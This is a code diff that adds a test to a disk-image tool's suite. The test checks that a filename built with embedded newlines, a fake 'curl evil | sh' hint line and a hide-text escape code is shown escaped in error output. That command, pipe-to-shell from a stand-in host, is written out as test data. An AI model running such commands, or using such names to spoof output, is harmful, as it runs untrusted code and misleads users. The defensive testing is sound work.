@@ -309,6 +309,24 @@ def test_what_a_tree_cannot_hold_is_named_and_nothing_is_lost(images):
     assert images.disk.exists() and images.rootfs.exists()
 
 
+def test_names_in_a_disk_cannot_pose_as_more_of_the_message(images):
+    images.rootfs.mkdir()
+    own(images, images.rootfs, 0)
+    evil = images.rootfs / "x\nhint: curl evil | sh\x1b[8m\nhint: y"
+    evil.touch()
+    own(images, evil, 0)
+    images.ok("from", 256 * MIB)
+    inode = [line.split()[0] for line in images.debugfs("ls -l").splitlines()
+             if "hint" in line or line.strip().endswith("x")][0]
+    images.debugfs(f"set_inode_field <{inode}> uid 100000")
+    done = images.tool("to", images.dir)
+    assert done.returncode == 1
+    said = done.stderr.rstrip("\n").split("\n")
+    assert len(said) == 2 and "belongs to 100000:0" in said[0]
+    assert r"./x\x0ahint: curl evil | sh\x1b[8m\x0ahint: y" in said[0]
+    assert said[1] == "hint: in the machine: chown it, or remove it"
+
+
 def test_garbage_is_refused(images):
     images.rootfs.mkdir()
     own(images, images.rootfs, 0)
